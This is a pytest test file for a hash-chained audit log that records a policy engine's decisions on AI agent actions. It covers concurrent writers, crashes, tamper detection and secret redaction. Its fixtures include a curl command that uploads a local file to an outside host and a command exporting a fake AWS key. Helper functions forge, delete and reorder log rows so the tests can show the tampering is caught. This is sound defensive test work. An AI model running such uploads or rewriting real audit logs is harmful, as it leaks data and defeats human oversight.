"""The audit log (policyc.runtime.audit) and ``policyc audit``: the entry format and the chain,
concurrent writer processes, writers killed mid-stream, tampering of every kind, secrets never
stored, and the command line.

Secrets come from the detector corpus (tests/normalize/secrets_corpus.json), where every value is
fake and stored in pieces; no assertion shows a secret value.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import random
import re
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import policyc
from policyc.action.model import parse_action
from policyc.cli.main import main
from policyc.decision import Alert, Decision, PolicyEngine
from policyc.decision.decide import redact_action
from policyc.normalize.secrets import KINDS
from policyc.runtime.audit import (
    GENESIS_HASH,
    AuditEntry,
    AuditLog,
    canonical_json,
    open_audit_log,
)
from policyc.runtime.store import DATABASE_NAME, StateStore, StoreError
from tests.hyp import scaled

HERE = Path(__file__).parent
WRITER = HERE / "audit_writer.py"
CORPUS = json.loads((HERE.parent / "normalize" / "secrets_corpus.json").read_text(encoding="utf-8"))


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --- the corpus's secrets -----------------------------------------------------------------------


class Case:
    """A positive corpus text: the text, its secret values, and the text around them."""

    def __init__(self, parts: list[Any]) -> None:
        self.text = ""
        self.secrets: list[str] = []
        plain: list[str] = []
        for part in parts:
            if isinstance(part, str):
                self.text += part
                plain.append(part)
            else:
                value = "".join(part["secret"])
                self.secrets.append(value)
                self.text += value
        self.surroundings = "\0".join(plain)

    def __repr__(self) -> str:  # never the secret
        return f"Case({len(self.text)} characters, {len(self.secrets)} secrets)"


CASES = [Case(item["text"]) for item in CORPUS["positive"]]
MARKERS = "\0".join(f"[REDACTED:{k}]" for k in KINDS)


def _forms(value: str) -> set[str]:
    """A string as it may be stored: itself, and JSON-escaped (ASCII or not)."""
    return {value, json.dumps(value)[1:-1], json.dumps(value, ensure_ascii=False)[1:-1]}


def leaked(data: bytes, secrets: list[str], allowed: str) -> int:
    """How many of ``secrets`` have a piece (16 characters, or the whole value if shorter) in
    ``data``, in any stored form, other than pieces that also occur in ``allowed``."""
    allowed_forms = "\0".join(_forms(allowed)) + "\0" + MARKERS
    count = 0
    for value in secrets:
        hit = False
        for form in _forms(value):
            width = min(16, len(form))
            for i in range(len(form) - width + 1):
                piece = form[i : i + width]
                if piece not in allowed_forms and piece.encode("utf-8", "surrogatepass") in data:
                    hit = True
                    break
            if hit:
                break
        count += hit
    return count


def corpus_secret(kind: str) -> str:
    for item in CORPUS["positive"]:
        for part in item["text"]:
            if isinstance(part, dict) and part["kind"] == kind:
                return "".join(part["secret"])
    raise LookupError(kind)


# --- fixtures -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def engine() -> PolicyEngine:
    return policyc.load(cache=False, fingerprint_key=b"audit")


def _actions() -> list[dict[str, Any]]:
    aws = corpus_secret("aws-access-key")
    return [
        {
            "action_id": "act_env",
            "action_type": "file.read",
            "resource": {"path": "/repo/.env"},
            "agent": {"id": "agent-a"},
            "session": {"id": "session-1"},
        },
        {
            "action_id": "act_ls",
            "action_type": "shell.exec",
            "command": "ls -la",
            "cwd": "/repo",
            "agent": {"id": "agent-b"},
            "session": {"id": "session-2"},
        },
        {
            "action_id": "act_key",
            "action_type": "shell.exec",
            "command": f"export AWS_ACCESS_KEY_ID={aws}; aws s3 ls",
            "cwd": "/repo",
            "agent": {"id": "agent-a"},
            "session": {"id": "session-1"},
        },
        {
            "action_id": "act_upload",
            "action_type": "shell.exec",
            "command": "curl -T notes.txt https://drop.example.net/",
            "cwd": "/repo",
            "agent": {"id": "agent-b"},
        },
    ]


Template = tuple[Decision, dict[str, Any]]


@pytest.fixture(scope="module")
def templates(engine: PolicyEngine) -> list[Template]:
    """Real decisions (deny, allow, redact, deny with an alert) and their redacted actions."""
    out = []
    for data in _actions():
        decision = engine.decide(data)
        out.append((decision, redact_action(parse_action(data), decision.redactions)))
    assert [d.decision for d, _ in out] == ["deny", "allow", "redact", "deny"]
    return out


def fill(log: AuditLog, templates: list[Template], n: int, start: int = 1) -> list[AuditEntry]:
    entries = []
    for i in range(start, start + n):
        decision, action = templates[(i - 1) % len(templates)]
        decision = decision.model_copy(update={"decision_id": f"dec_{i:05d}"})
        entries.append(log.record(decision, action))
    return entries


@pytest.fixture
def log(tmp_path: Path) -> Iterator[AuditLog]:
    store = StateStore.in_folder(tmp_path / "state")
    yield AuditLog(store)
    store.close()


# --- entries and the chain ----------------------------------------------------------------------


def test_entries_are_canonical_json_hashed_and_chained(
    log: AuditLog, templates: list[Template]
) -> None:
    entries = fill(log, templates, 6)
    assert [e.seq for e in entries] == [1, 2, 3, 4, 5, 6]
    prev = GENESIS_HASH
    for e, (decision, action) in zip(entries, templates + templates, strict=False):
        content = json.loads(e.body)
        assert set(content) == {
            "schema",
            "seq",
            "decision_id",
            "recorded_at",
            "action",
            "decision",
            "prev_hash",
        }
        assert content["schema"] == "policyc.audit/1"
        assert (content["seq"], content["decision_id"]) == (e.seq, e.decision_id)
        assert content["prev_hash"] == prev == e.prev_hash
        assert e.body == json.dumps(
            content, sort_keys=True, separators=(",", ":"), ensure_ascii=False
        ).encode("utf-8")
        assert e.hash == sha256(e.body) and e.hash_ok()
        assert content["action"] == action
        expected = decision.model_copy(update={"decision_id": e.decision_id}).to_dict()
        assert content["decision"] == expected
        assert e.to_decision().to_dict() == expected
        prev = e.hash
    assert log.head() == (6, entries[-1].hash)
    assert [e.recorded_at for e in entries] == sorted(e.recorded_at for e in entries)
    stored = log.get("dec_00003")
    assert stored == entries[2]
    assert stored is not None and stored.decision == "redact"
    assert stored.session_id == "session-1" and stored.agent_id == "agent-a"
    assert log.get("dec_nope") is None
    report = log.verify()
    assert (report.ok, report.entries, report.head, report.kind) == (
        True,
        6,
        entries[-1].hash,
        None,
    )


def test_an_empty_log_verifies(log: AuditLog) -> None:
    report = log.verify()
    assert (report.ok, report.entries, report.head) == (True, 0, GENESIS_HASH)
    assert log.head() == (0, GENESIS_HASH)


def test_an_invalid_action_is_logged_as_null(log: AuditLog, engine: PolicyEngine) -> None:
    decision = engine.decide({"action_type": "teleport"})
    assert decision.decision == "deny" and decision.error is not None
    entry = log.record(decision, None)
    assert entry.action() is None and entry.session_id is None and entry.agent_id is None
    assert entry.to_decision().error == decision.error
    assert log.verify().ok


def test_append_joins_the_callers_transaction(log: AuditLog, templates: list[Template]) -> None:
    fill(log, templates, 2)
    decision, action = templates[0]
    with pytest.raises(RuntimeError), log.store.write() as conn:
        log.append(conn, decision.model_copy(update={"decision_id": "dec_rolled_back"}), action)
        conn.execute("CREATE TABLE IF NOT EXISTS other_part (x INTEGER)")
        raise RuntimeError("the caller fails after appending")
    assert log.get("dec_rolled_back") is None and log.head()[0] == 2  # type: ignore[index]
    with log.store.write() as conn:
        prepared = log.prepare(decision.model_copy(update={"decision_id": "dec_kept"}), action)
        entry = log.append(conn, prepared)
        conn.execute("CREATE TABLE IF NOT EXISTS other_part (x INTEGER)")
    assert entry.seq == 3 and log.get("dec_kept") == entry
    assert log.verify().ok


def test_a_decision_is_logged_once(log: AuditLog, templates: list[Template]) -> None:
    fill(log, templates, 1)
    decision, action = templates[0]
    with pytest.raises(StoreError) as e:
        log.record(decision.model_copy(update={"decision_id": "dec_00001"}), action)
    assert e.value.code == "store.unavailable" and "UNIQUE" in e.value.message
    assert log.head()[0] == 1 and log.verify().ok  # type: ignore[index]


def test_non_json_actions_are_refused(log: AuditLog, templates: list[Template]) -> None:
    decision, _ = templates[1]
    for bad in ({"x": float("nan")}, {"x": object()}, {"x": {1: "int key"}}):
        with pytest.raises(StoreError) as e:
            log.record(decision, bad)
        assert e.value.code == "audit.invalid"
    assert log.head() == (0, GENESIS_HASH)


def test_unicode_and_lone_surrogates_are_stored_exactly(
    log: AuditLog, templates: list[Template]
) -> None:
    decision, _ = templates[1]
    action = {"action_type": "shell.exec", "command": 'echo ✓ \ud800 "q" \\ \n\t\x00 é'}
    entry = log.record(decision, action)
    entry.body.decode("utf-8")  # valid UTF-8
    assert entry.action() == action
    assert log.verify().ok


def test_search_filters(log: AuditLog, templates: list[Template]) -> None:
    for i in range(1, 9):
        decision, action = templates[(i - 1) % 4]
        moment = datetime(2025, 1, i, 12, 0, tzinfo=UTC)
        log.record(
            decision.model_copy(update={"decision_id": f"dec_{i}", "timestamp": moment}), action
        )

    def ids(**filters: Any) -> list[str]:
        return [e.decision_id for e in log.search(**filters)]

    assert ids() == [f"dec_{i}" for i in range(1, 9)]
    assert ids(decision="deny") == ["dec_1", "dec_4", "dec_5", "dec_8"]
    assert ids(session="session-2") == ["dec_2", "dec_6"]
    assert ids(agent="agent-a") == ["dec_1", "dec_3", "dec_5", "dec_7"]
    assert ids(agent="agent-a", decision="redact") == ["dec_3", "dec_7"]
    assert ids(policy_id="secrets.read") == ["dec_1", "dec_5"]
    # an alert rule that fired is found although another rule decided
    assert ids(policy_id="egress.unknown_domain") == ["dec_4", "dec_8"]
    assert ids(policy_id="secrets") == []  # whole ids only
    assert ids(since="2025-01-03", until="2025-01-05") == ["dec_3", "dec_4"]
    assert ids(since="2025-01-03T12:00:00Z", until="2025-01-03T12:00:00.000001Z") == ["dec_3"]
    assert ids(since="2025-01-03T13:00:00+02:00") == [f"dec_{i}" for i in range(3, 9)]
    assert ids(since=datetime(2025, 1, 7, tzinfo=UTC)) == ["dec_7", "dec_8"]
    assert ids(limit=3) == ["dec_1", "dec_2", "dec_3"]
    assert ids(decision="deny", limit=0) == []
    with pytest.raises(ValueError):
        log.search(since="last tuesday")
    with pytest.raises(ValueError):
        log.search(limit=-1)


def test_export_lines_hold_the_hashed_bytes(log: AuditLog, templates: list[Template]) -> None:
    entries = fill(log, templates, 5)
    for stream in (io.BytesIO(), io.StringIO()):
        assert log.export(stream) == 5
        raw = stream.getvalue()
        data = raw if isinstance(raw, bytes) else raw.encode("utf-8")
        lines = data.splitlines()
        assert len(lines) == 5
        for line, entry in zip(lines, entries, strict=True):
            parsed = json.loads(line)
            assert parsed["hash"] == entry.hash
            assert parsed["body"] == json.loads(entry.body)
            body = line[len(b'{"body":') : -len(b',"hash":"' + b"0" * 64 + b'"}')]
            assert sha256(body) == entry.hash
    with pytest.raises(ValueError):
        log.export(io.BytesIO(), fmt="csv")


def test_reading_an_absent_log_creates_nothing(tmp_path: Path) -> None:
    with pytest.raises(StoreError) as e:
        open_audit_log(tmp_path / "none", create=False)
    assert e.value.code == "audit.missing"
    assert not (tmp_path / "none").exists()
    other = StateStore.in_folder(tmp_path / "other")
    other.ensure("other", "CREATE TABLE IF NOT EXISTS other_part (x INTEGER)")
    with pytest.raises(StoreError) as e:
        AuditLog(other, create=False)
    assert e.value.code == "audit.missing"
    with other.read() as conn:
        tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master")}
    assert tables == {"other_part"}
    other.close()


# --- many writers, killed writers ---------------------------------------------------------------


def _write_templates(path: Path, templates: list[Template]) -> Path:
    data = [{"decision": d.to_dict(), "action": a} for d, a in templates]
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def _writer(*args: str, stderr: Any = subprocess.PIPE) -> subprocess.Popen[bytes]:
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    return subprocess.Popen(
        [sys.executable, str(WRITER), *args], stdout=subprocess.DEVNULL, stderr=stderr, env=env
    )


def _report(path: Path) -> list[tuple[int, str, str]]:
    out = []
    if path.exists():
        for line in path.read_text().splitlines():
            parts = line.split()
            if len(parts) == 3 and len(parts[1]) == 64:
                out.append((int(parts[0]), parts[1], parts[2]))
    return out


def test_eight_writer_processes_make_one_gapless_chain(
    tmp_path: Path, templates: list[Template]
) -> None:
    writers, each = 8, 500
    source = _write_templates(tmp_path / "templates.json", templates)
    state = tmp_path / "state"
    go = tmp_path / "go"
    procs = [
        _writer(
            str(state),
            str(source),
            str(each),
            str(tmp_path / f"report{w}"),
            f"writer-{w}",
            str(tmp_path / f"ready{w}"),
            str(go),
        )
        for w in range(writers)
    ]
    try:
        deadline = time.monotonic() + 60
        while not all((tmp_path / f"ready{w}").exists() for w in range(writers)):
            assert all(p.poll() is None for p in procs), "a writer ended before starting"
            assert time.monotonic() < deadline, "the writers did not start"
            time.sleep(0.01)
        go.touch()  # all at once
        for p in procs:
            _, err = p.communicate(timeout=120)
            assert p.returncode == 0, err.decode()
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
                p.wait()

    store = StateStore.in_folder(state)
    log = AuditLog(store, create=False)
    with store.read() as conn:
        seqs = [r[0] for r in conn.execute("SELECT seq FROM audit_entries ORDER BY seq")]
        ids = {r[0] for r in conn.execute("SELECT decision_id FROM audit_entries")}
    assert seqs == list(range(1, writers * each + 1))
    assert len(ids) == writers * each
    report = log.verify()
    assert (report.ok, report.entries) == (True, writers * each), report.message
    for w in range(writers):
        lines = _report(tmp_path / f"report{w}")
        assert len(lines) == each
        assert [s for s, _, _ in lines] == sorted(s for s, _, _ in lines)  # its own order kept
        assert {e.session_id for e in log.search(session=f"writer-{w}")} == {f"writer-{w}"}
        for seq, digest, decision_id in lines[:: each // 10]:
            entry = log.get(decision_id)
            assert entry is not None and (entry.seq, entry.hash) == (seq, digest)
    store.close()


def test_writers_killed_at_random_moments_lose_nothing_committed(
    tmp_path: Path, templates: list[Template]
) -> None:
    rng = random.Random(7)
    source = _write_templates(tmp_path / "templates.json", templates)
    state = tmp_path / "state"
    total_reported = 0
    for round_ in range(5):
        report_path = tmp_path / f"report{round_}"
        errors = tmp_path / f"stderr{round_}"
        with errors.open("wb") as err:
            proc = _writer(
                str(state), str(source), "0", str(report_path), f"crash-{round_}", stderr=err
            )
        try:
            deadline = time.monotonic() + 60
            while not _report(report_path):
                assert proc.poll() is None, errors.read_text()
                assert time.monotonic() < deadline, "the writer committed nothing"
                time.sleep(0.005)
            time.sleep(rng.uniform(0.0, 0.3))  # then kill it wherever it is
            proc.send_signal(signal.SIGKILL)
            proc.wait(timeout=30)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
        assert proc.returncode == -signal.SIGKILL

        reported = _report(report_path)
        total_reported += len(reported)
        store = StateStore.in_folder(state)
        log = AuditLog(store)
        report = log.verify()
        assert report.ok, report.message
        head = log.head()
        assert head is not None and head[0] >= reported[-1][0]
        for seq, digest, decision_id in reported:
            entry = log.get(decision_id)
            assert entry is not None and (entry.seq, entry.hash) == (seq, digest)
        # the log goes on after the crash
        more = fill(log, templates, 1, start=100_000 + round_)
        assert more[0].seq == head[0] + 1 and log.verify().ok
        store.close()
    assert total_reported >= 5


def test_verify_while_a_process_writes_sees_a_consistent_log(
    tmp_path: Path, templates: list[Template]
) -> None:
    source = _write_templates(tmp_path / "templates.json", templates)
    state = tmp_path / "state"
    store = StateStore.in_folder(state)
    log = AuditLog(store)
    with (tmp_path / "stderr").open("wb") as err:
        proc = _writer(str(state), str(source), "400", str(tmp_path / "report"), "w", stderr=err)
    try:
        seen = set()
        while proc.poll() is None:
            report = log.verify()
            assert report.ok, report.message
            seen.add(report.entries)
        assert proc.returncode == 0, (tmp_path / "stderr").read_text()
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    final = log.verify()
    assert (final.ok, final.entries) == (True, 400)
    assert len(seen) > 1  # it did verify a log that was growing
    store.close()


# --- tampering ----------------------------------------------------------------------------------

Tamper = Callable[[sqlite3.Connection], object]


def _content(conn: sqlite3.Connection, seq: int) -> dict[str, Any]:
    row = conn.execute("SELECT body FROM audit_entries WHERE seq = ?", (seq,)).fetchone()
    data: dict[str, Any] = json.loads(row[0])
    return data


def _hash_of(conn: sqlite3.Connection, seq: int) -> str:
    return str(conn.execute("SELECT hash FROM audit_entries WHERE seq = ?", (seq,)).fetchone()[0])


def _put(conn: sqlite3.Connection, seq: int, content: dict[str, Any], *, rehash: bool) -> None:
    body = canonical_json(content)
    if rehash:
        conn.execute(
            "UPDATE audit_entries SET body = ?, hash = ? WHERE seq = ?", (body, sha256(body), seq)
        )
    else:
        conn.execute("UPDATE audit_entries SET body = ? WHERE seq = ?", (body, seq))


def _shift(conn: sqlite3.Connection, first: int, by: int) -> None:
    """Renumber the entries from ``first`` on by ``by`` (through negative numbers, as the seq
    column is unique)."""
    conn.execute("UPDATE audit_entries SET seq = -(seq + ?) WHERE seq >= ?", (by, first))
    conn.execute("UPDATE audit_entries SET seq = -seq WHERE seq < 0")


def _insert(conn: sqlite3.Connection, seq: int, like: int, body: bytes, digest: str) -> None:
    """A row at ``seq`` with the search columns of entry ``like`` and a new decision id."""
    conn.execute(
        "INSERT INTO audit_entries SELECT ?, 'dec_forged', recorded_at, session_id, agent_id, "
        "decision, policy_ids, decided_at, ?, ? FROM audit_entries WHERE seq = ?",
        (seq, body, digest, like),
    )


def _forged(conn: sqlite3.Connection, like: int, **changes: Any) -> tuple[bytes, str]:
    content = _content(conn, like)
    content["decision_id"] = "dec_forged"
    content["decision"]["reason"] = "nothing happened"
    content.update(changes)
    body = canonical_json(content)
    return body, sha256(body)


def _swap(conn: sqlite3.Connection, a: int, b: int) -> None:
    conn.execute("UPDATE audit_entries SET seq = -1 WHERE seq = ?", (a,))
    conn.execute("UPDATE audit_entries SET seq = ? WHERE seq = ?", (a, b))
    conn.execute("UPDATE audit_entries SET seq = ? WHERE seq = -1", (b,))


def edit_body(conn: sqlite3.Connection, seq: int = 4, rehash: bool = False) -> None:
    content = _content(conn, seq)
    content["decision"]["reason"] = "nothing happened"
    _put(conn, seq, content, rehash=rehash)


def insert_forged(conn: sqlite3.Connection) -> None:
    body, digest = _forged(conn, 4)  # entry 4's place in the chain, a different decision
    _shift(conn, 4, 1)
    _insert(conn, 4, 5, body, digest)


def insert_garbage(conn: sqlite3.Connection) -> None:
    _shift(conn, 4, 1)
    _insert(conn, 4, 5, b'{"forged":true}', "f" * 64)


def append_forged(conn: sqlite3.Connection) -> None:  # a valid 11th entry, head left as it was
    body, digest = _forged(conn, 10, seq=11, prev_hash=_hash_of(conn, 10))
    _insert(conn, 11, 10, body, digest)


def append_copy(conn: sqlite3.Connection) -> None:  # entry 2 again (rehashed), at the end
    body, digest = _forged(conn, 2)
    _insert(conn, 11, 2, body, digest)


def delete_and_renumber(conn: sqlite3.Connection) -> None:
    conn.execute("DELETE FROM audit_entries WHERE seq = 4")
    _shift(conn, 5, -1)


def malformed_body(conn: sqlite3.Connection) -> None:
    conn.execute(
        "UPDATE audit_entries SET body = ?, hash = ? WHERE seq = 4",
        (b"not json", sha256(b"not json")),
    )


def flip_decision_column(conn: sqlite3.Connection) -> None:
    conn.execute(
        "UPDATE audit_entries SET decision = CASE decision WHEN 'allow' THEN 'deny' "
        "ELSE 'allow' END WHERE seq = 4"
    )


TAMPERING: dict[str, tuple[Tamper, str, int | None]] = {
    "edited body": (edit_body, "edited", 4),
    "edited body, hash recomputed": (lambda c: edit_body(c, rehash=True), "edited", 4),
    "edited first body": (lambda c: edit_body(c, seq=1), "edited", 1),
    "edited last body, hash recomputed": (lambda c: edit_body(c, 10, rehash=True), "edited", 10),
    "edited body as text": (
        lambda c: c.execute(
            "UPDATE audit_entries SET body = replace(body, '\"seq\":4', '\"seq\":4 ') WHERE seq = 4"
        ),
        "edited",
        4,
    ),
    "edited hash column": (
        lambda c: c.execute("UPDATE audit_entries SET hash = ? WHERE seq = 4", ("a" * 64,)),
        "edited",
        4,
    ),
    "edited search column": (flip_decision_column, "edited", 4),
    "edited seq column": (
        lambda c: c.execute("UPDATE audit_entries SET seq = 50 WHERE seq = 10"),
        "edited",
        10,
    ),
    "deleted": (lambda c: c.execute("DELETE FROM audit_entries WHERE seq = 4"), "deleted", 4),
    "deleted first": (lambda c: c.execute("DELETE FROM audit_entries WHERE seq = 1"), "deleted", 1),
    "deleted two": (
        lambda c: c.execute("DELETE FROM audit_entries WHERE seq IN (4, 5)"),
        "deleted",
        4,
    ),
    "deleted and renumbered": (delete_and_renumber, "deleted", 4),
    "inserted forgery": (insert_forged, "inserted", 4),
    "inserted garbage": (insert_garbage, "inserted", 4),
    "appended forgery": (append_forged, "inserted", 11),
    "appended copy": (append_copy, "inserted", 11),
    "swapped neighbours": (lambda c: _swap(c, 4, 5), "reordered", 4),
    "swapped apart": (lambda c: _swap(c, 3, 7), "reordered", 3),
    "moved to the end": (
        lambda c: c.execute("UPDATE audit_entries SET seq = 100 WHERE seq = 3"),
        "reordered",
        3,
    ),
    "truncated": (lambda c: c.execute("DELETE FROM audit_entries WHERE seq > 7"), "truncated", 8),
    "emptied": (lambda c: c.execute("DELETE FROM audit_entries"), "truncated", 1),
    "malformed body": (malformed_body, "malformed", 4),
    "head row deleted": (lambda c: c.execute("DELETE FROM audit_head"), "malformed", None),
}


@pytest.fixture
def ten(tmp_path: Path, templates: list[Template]) -> Path:
    """A log of ten entries, closed; the path of its database."""
    store = StateStore.in_folder(tmp_path / "state")
    fill(AuditLog(store), templates, 10)
    store.close()
    return store.path


@contextlib.contextmanager
def raw(db: Path) -> Iterator[sqlite3.Connection]:
    """The database opened with sqlite3 directly, as someone with write access would."""
    conn = sqlite3.connect(db, isolation_level=None)
    try:
        yield conn
    finally:
        conn.close()


def verify(db: Path, expect_head: str | None = None) -> Any:
    store = StateStore(db)
    try:
        return AuditLog(store, create=False).verify(expect_head)
    finally:
        store.close()


@pytest.mark.parametrize("name", list(TAMPERING))
def test_tampering_is_detected_and_the_first_bad_entry_named(ten: Path, name: str) -> None:
    tamper, kind, first_bad = TAMPERING[name]
    assert verify(ten).ok
    with raw(ten) as conn:
        tamper(conn)
    report = verify(ten)
    assert (report.ok, report.kind, report.first_bad) == (False, kind, first_bad), report.message
    if first_bad is not None:
        assert report.entries == first_bad - 1
        assert re.search(rf"\bentr(?:y|ies) {first_bad}\b", report.message), report.message


def test_the_head_hash_anchors_the_log(ten: Path, templates: list[Template]) -> None:
    intact = verify(ten)
    with raw(ten) as conn:
        fifth = _hash_of(conn, 5)
    assert verify(ten, expect_head=intact.head).ok
    anchored = verify(ten, expect_head=fifth)  # an older head: the log has grown since
    assert (
        anchored.ok and "entry 5" in anchored.message and "5 entries were added" in anchored.message
    )
    # whoever can write the file can cut the tail and rewrite the head consistently: the chain
    # alone verifies, the anchor kept elsewhere does not
    with raw(ten) as conn:
        conn.execute("DELETE FROM audit_entries WHERE seq > 7")
        conn.execute("UPDATE audit_head SET count = 7, hash = ?", (_hash_of(conn, 7),))
    assert verify(ten).ok
    report = verify(ten, expect_head=intact.head)
    assert (report.ok, report.kind, report.first_bad) == (False, "edited", None)
    assert intact.head in report.message


def test_a_log_without_its_head_row_refuses_new_entries(
    ten: Path, templates: list[Template]
) -> None:
    with raw(ten) as conn:
        conn.execute("DELETE FROM audit_head")
    store = StateStore(ten)
    log = AuditLog(store)  # does not recreate the head over existing entries
    with pytest.raises(StoreError) as e:
        fill(log, templates, 1, start=11)
    assert e.value.code == "audit.no_head"
    assert log.verify().kind == "malformed"
    store.close()


class CountingConnection:
    """A connection whose cursors count the rows they hand out and refuse to fetch them all."""

    def __init__(self, conn: sqlite3.Connection) -> None:
        self.conn = conn
        self.rows = 0

    def execute(self, *args: Any) -> Any:
        return CountingCursor(self, self.conn.execute(*args))


class CountingCursor:
    def __init__(self, owner: CountingConnection, cursor: sqlite3.Cursor) -> None:
        self.owner = owner
        self.cursor = cursor

    def __iter__(self) -> Iterator[Any]:
        for row in self.cursor:
            self.owner.rows += 1
            yield row

    def fetchone(self) -> Any:
        return self.cursor.fetchone()

    def fetchall(self) -> Any:
        raise AssertionError("the whole table was fetched")


def test_verify_streams_the_entries(ten: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """verify reads one entry (and the next) at a time: it stops reading at a bad first entry."""
    with raw(ten) as conn:
        edit_body(conn, seq=1)
    store = StateStore(ten)
    log = AuditLog(store, create=False)
    counting = CountingConnection(store.connection())
    monkeypatch.setattr(store, "connection", lambda: counting)
    report = log.verify()
    assert (report.kind, report.first_bad) == ("edited", 1)
    assert counting.rows == 2  # of 10
    store.close()


# --- secrets ------------------------------------------------------------------------------------

PLACES = ("command", "payload", "tool value", "tool key", "nested list", "path")


def _action_with(text: str, place: str) -> dict[str, Any]:
    base: dict[str, Any] = {"action_id": "act_secret", "cwd": "/repo", "agent": {"id": "a"}}
    if place == "command":
        return {**base, "action_type": "shell.exec", "command": text}
    if place == "payload":
        return {**base, "action_type": "http.request", "url": "https://api.example.com/v1",
                "method": "POST", "payload": text}  # fmt: skip
    if place == "tool value":
        return {
            **base,
            "action_type": "tool.call",
            "tool": {"name": "notes", "input": {"body": text}},
        }
    if place == "tool key":
        return {**base, "action_type": "tool.call", "tool": {"name": "notes", "input": {text: 1}}}
    if place == "nested list":
        return {**base, "action_type": "tool.call",
                "tool": {"name": "notes", "input": {"items": [{"deep": [text]}]}}}  # fmt: skip
    return {**base, "action_type": "file.write", "resource": {"path": "/repo/" + text}}


def _leaky(decision: Decision, text: str) -> Decision:
    """The decision as a faulty policy could make it: the text in its reasons."""
    return decision.model_copy(
        update={
            "reason": f"saw {text}",
            "alerts": [Alert(policy_id="leaky.alert", reason=text, risk=10)],
        }
    )


def _stored_bytes(log: AuditLog) -> bytes:
    """The database file and its WAL, after a checkpoint that leaves the WAL in place."""
    conn = log.store.connection()
    conn.execute("PRAGMA wal_checkpoint(PASSIVE)")
    db = log.store.path
    wal = db.with_name(db.name + "-wal")
    data, journal = db.read_bytes(), wal.read_bytes()
    assert len(journal) > 0 and b"dec_" in data  # both hold entries
    return data + journal


@settings(max_examples=scaled(60))
@given(
    index=st.integers(0, len(CASES) - 1),
    place=st.sampled_from(PLACES),
    prefix=st.text(max_size=20),
    suffix=st.text(max_size=20),
    before=st.sampled_from([" ", "\n", '"', "'", "\t"]),
    after=st.sampled_from([" ", "\n", '"', "'", "\t"]),
)
def test_no_corpus_secret_reaches_the_database_files(
    engine: PolicyEngine, index: int, place: str, prefix: str, suffix: str, before: str, after: str
) -> None:
    case = CASES[index]  # drawn by index: a failing example shows no secret
    text = prefix + before + case.text + after + suffix
    action = _action_with(text, place)
    decision = _leaky(engine.decide(action), text)
    with tempfile.TemporaryDirectory() as folder:
        store = StateStore.in_folder(folder)
        try:
            log = AuditLog(store)
            log.record(decision, action)  # the action as the caller had it: not redacted
            data = _stored_bytes(log)
        finally:
            store.close()
    allowed = case.surroundings + "\0" + prefix + "\0" + suffix
    assert leaked(data, case.secrets, allowed) == 0, repr(case)


def test_no_secret_of_the_whole_corpus_is_stored(
    engine: PolicyEngine, log: AuditLog, templates: list[Template]
) -> None:
    for n, case in enumerate(CASES):
        place = PLACES[n % len(PLACES)]
        action = _action_with(case.text, place)
        decision = _leaky(templates[1][0], case.text)
        log.record(decision.model_copy(update={"decision_id": f"dec_corpus_{n}"}), action)
    data = _stored_bytes(log)
    # the corpus's fake secrets share pieces with text around other secrets (a key id next to
    # a key): what is around any secret may be stored
    around = "\0".join(case.surroundings for case in CASES)
    leaks = [n for n, case in enumerate(CASES) if leaked(data, case.secrets, around)]
    assert leaks == []
    assert log.verify().ok


def test_a_value_under_a_secret_name_is_redacted_whole(
    log: AuditLog, templates: list[Template]
) -> None:
    value = "Zq8Vn3Kp" + "0Lx7Rb2W"
    action = {"action_type": "tool.call", "tool": {"name": "db", "input": {"password": value}}}
    entry = log.record(templates[1][0], action)
    assert value.encode() not in entry.body
    stored = entry.action()
    assert stored is not None
    assert stored["tool"]["input"]["password"] == "[REDACTED:generic-secret]"


def test_values_inside_a_list_or_object_under_a_secret_name_are_redacted(
    log: AuditLog, templates: list[Template]
) -> None:
    value = "Tr0ub4dor&3horse" + "Zq8V"
    tool_input = {"password": [value], "db": {"password": {"value": value + "x"}}, "n": 7}
    action = {"action_type": "tool.call", "tool": {"name": "db", "input": tool_input}}
    entry = log.record(templates[1][0], action)
    assert value.encode() not in entry.body
    stored = entry.action()
    assert stored is not None
    assert stored["tool"]["input"] == {
        "password": ["[REDACTED:generic-secret]"],
        "db": {"password": {"value": "[REDACTED:generic-secret]"}},
        "n": 7,
    }


def test_text_without_secrets_is_stored_unchanged(log: AuditLog, templates: list[Template]) -> None:
    action = {"action_type": "shell.exec", "command": "git log --oneline -n 5", "token_count": 3}
    entry = log.record(templates[1][0], action)
    assert entry.action() == action


# --- the command line ---------------------------------------------------------------------------


def audit(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["audit", *args])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


@pytest.fixture
def state(tmp_path: Path, templates: list[Template]) -> str:
    """A state folder with a log of eight entries, two per template, dated 1-8 January 2025."""
    folder = tmp_path / "state"
    store = StateStore.in_folder(folder)
    log = AuditLog(store)
    for i in range(1, 9):
        decision, action = templates[(i - 1) % 4]
        moment = datetime(2025, 1, i, 12, 0, tzinfo=UTC)
        log.record(
            decision.model_copy(update={"decision_id": f"dec_{i}", "timestamp": moment}), action
        )
    store.close()
    return str(folder)


def test_cli_verify(capsys: pytest.CaptureFixture[str], state: str) -> None:
    code, out, _ = audit(capsys, "verify", "--state", state)
    assert code == 0
    head = out.split("head ")[1].strip()
    assert "8 entries verified" in out and len(head) == 64
    assert audit(capsys, "verify", "--state", state, "--expect-head", head)[0] == 0
    code, out, _ = audit(capsys, "verify", "--state", state, "--expect-head", "ab" * 32)
    assert code == 1 and "does not contain the expected head" in out
    with pytest.raises(SystemExit) as e:
        main(["audit", "verify", "--state", state, "--expect-head", "12ab"])
    assert e.value.code == 2
    capsys.readouterr()
    with raw(Path(state) / DATABASE_NAME) as conn:
        edit_body(conn, seq=3)
    code, out, _ = audit(capsys, "verify", "--state", state)
    assert code == 1
    assert out.startswith("TAMPERED (edited): ")
